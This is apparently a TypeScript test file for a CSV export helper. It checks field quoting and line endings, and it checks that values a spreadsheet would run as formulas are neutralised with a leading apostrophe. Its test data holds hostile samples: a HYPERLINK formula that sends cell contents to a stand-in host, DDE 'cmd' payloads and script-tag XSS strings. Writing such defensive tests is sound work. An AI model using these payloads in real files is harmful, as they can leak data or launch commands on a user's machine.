import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvField, toCsv } from '../../src/core/csv';
import { parseCsv } from './support/csv';

test('plain fields are left as they are; empty values are empty fields', () => {
  assert.equal(csvField('Cheating'), 'Cheating');
  assert.equal(csvField(42), '42');
  assert.equal(csvField(true), 'true');
  assert.equal(csvField(undefined), '');
  assert.equal(csvField(null), '');
  assert.equal(csvField(''), '');
  assert.equal(csvField(' spaced '), ' spaced ');
});

test('commas, double quotes and line breaks are quoted, with quotes doubled', () => {
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('"'), '""""');
  assert.equal(csvField('line1\nline2'), '"line1\nline2"');
  assert.equal(csvField('cr\rlf\r\n'), '"cr\rlf\r\n"');
  assert.equal(csvField('<img src=x onerror="alert(1)">, ok'), '"<img src=x onerror=""alert(1)"">, ok"');
});

test('toCsv writes the header and every row with CRLF line ends', () => {
  const csv = toCsv(
    ['Time', 'Reason'],
    [
      ['2024-01-01T00:00:00Z', 'a, "b"'],
      ['t2', 'two\nlines'],
    ],
  );
  assert.equal(csv, 'Time,Reason\r\n2024-01-01T00:00:00Z,"a, ""b"""\r\nt2,"two\nlines"\r\n');
  assert.equal(toCsv(['Only', 'Header'], []), 'Only,Header\r\n');
});

test('hostile fields read back unchanged, but for the apostrophe that keeps a formula from running', () => {
  const values = ['', ',', '""', 'a\r\nb', '<script>alert("x")</script>', 'üñí 🎮', ' lead', 'x,"y",\nz', '-5', '+1.5'];
  const rows = values.map((v, i) => [String(i), v]);
  assert.deepEqual(parseCsv(toCsv(['n', 'value'], rows)), [['n', 'value'], ...rows]);
});

test('text a spreadsheet would run as a formula opens as text: a leading apostrophe, quoted', () => {
  const formulas = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+1+cmd|calc',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1',
    '\r=1',
  ];
  for (const f of formulas) {
    const cell = csvField(f);
    assert.ok(cell.startsWith('"\''), `${JSON.stringify(f)} became ${JSON.stringify(cell)}`);
    assert.deepEqual(parseCsv(toCsv(['v'], [[f]]))[1], [`'${f}`]);
  }
  // Numbers, and durations and ids written as text, stay as they are.
  assert.equal(csvField(-5), '-5');
  assert.equal(csvField('-5'), '-5');
  assert.equal(csvField('604800s'), '604800s');
  assert.equal(csvField('2001'), '2001');
});
